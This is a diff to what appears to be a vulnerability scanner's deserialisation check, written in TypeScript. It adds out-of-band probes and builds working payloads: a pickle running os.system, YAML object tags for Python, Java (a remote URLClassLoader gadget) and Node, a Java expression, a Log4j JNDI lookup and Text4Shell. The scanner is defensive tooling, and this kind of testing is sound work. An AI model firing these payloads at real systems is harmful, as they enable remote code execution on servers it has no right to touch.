@@ -1,7 +1,7 @@
 // Objects that are read back from text with their behaviour: proved only by a call that they make the target do.
 
 import { percentDecoded } from '../../core/percent.ts'
-import { settle } from '../found.ts'
+import { isSettled, settle } from '../found.ts'
 import { expectCall, takesText, textValue } from '../probing.ts'
 import type { Context, Operation, Point, PointCheck } from '../types.ts'
 
@@ -12,9 +12,15 @@ const command = (url: string) =>
 /** A pickle of protocol 0 that runs a command: c(module, name) (text) t R. */
 const pickle = (url: string) => `cos\nsystem\n(S'${command(url).replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'\ntR.`
 const yaml = (url: string) => `!!python/object/apply:os.system ["${command(url).replaceAll('"', '\\"')}"]`
+/** The class path of SnakeYAML's own classes leads to the address, where a list of what it offers is looked for. */
+const yamlOfJava = (url: string) =>
+  `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${url}/"]]]]`
+/** The token stands behind the address only once the expression was computed: what calls addresses in texts has it not. */
+const expression = (host: string, token: string) =>
+  `new java.net.URL("http://${host}/".concat("${token}")).openStream()`
 const yamlOfNode = (url: string) => `!!js/function "function(){require('http').get('${url}')}()"`
 const log = (host: string, token: string) => `\${jndi:ldap://${host}/${token}}`
-const text4 = (url: string) => `\${script:javascript:new java.net.URL("${url}").openStream()}`
+const text4 = (host: string, token: string) => `\${script:javascript:${expression(host, token)}}`
 
 type Payload = {
   name: string
@@ -22,6 +28,9 @@ type Payload = {
   of: (address: { url: string; host: string; token: string }) => string
   fits: (text: string, point: Point) => boolean
 }
+
+/** Of what is no object that is read back. */
+const TITLES: Readonly<Record<number, string>> = { 94: 'Code injection', 917: 'A lookup in the value is followed' }
 
 const isEncoded = (text: string) => /^[A-Za-z0-9+/_-]{16,}={0,2}$/.test(text)
 const base64 = (text: string) => Buffer.from(text).toString('base64')
@@ -60,8 +69,21 @@ const payloads: readonly Payload[] = [
     fits: (text, point) =>
       point.place === 'file' || /yaml|yml|config|import/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
   },
+  {
+    name: 'an object of YAML',
+    cwe: 502,
+    of: ({ url }) => yamlOfJava(url),
+    fits: (text, point) =>
+      point.place === 'file' || /yaml|yml|config|import|data|content/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
+  },
+  {
+    name: 'an expression of Java',
+    cwe: 94,
+    of: ({ host, token }) => expression(host, token),
+    fits: (_, point) => point.place !== 'file',
+  },
   { name: 'a lookup of Log4j', cwe: 917, of: ({ host, token }) => log(host, token), fits: () => true },
-  { name: 'a script of Text4Shell', cwe: 94, of: ({ url }) => text4(url), fits: () => true },
+  { name: 'a script of Text4Shell', cwe: 94, of: ({ host, token }) => text4(host, token), fits: () => true },
 ]
 
 export const deserialisation: PointCheck = {
@@ -77,7 +99,9 @@ export const deserialisation: PointCheck = {
   accepts: (point) => takesText(point) || point.place === 'file',
   async probe(point, operation, context) {
     if (!context.outOfBand) return null
+    const isCode = isSettled(94, operation, point, context)
     for (const payload of payloads) {
+      if (isCode && payload.cwe === 94) continue
       if (payload.fits(percentDecoded(textValue(point)), point)) await send(payload, point, operation, context)
     }
     return null
@@ -95,7 +119,7 @@ async function send({ name, cwe, of }: Payload, point: Point, operation: Operati
         operation,
         point,
         cwes: [cwe],
-        title: cwe === 502 ? undefined : 'A lookup in the value is followed',
+        title: TITLES[cwe],
         detail: `The target made the call that ${name} in the value asks for.`,
         proof: [url],
         exchange,
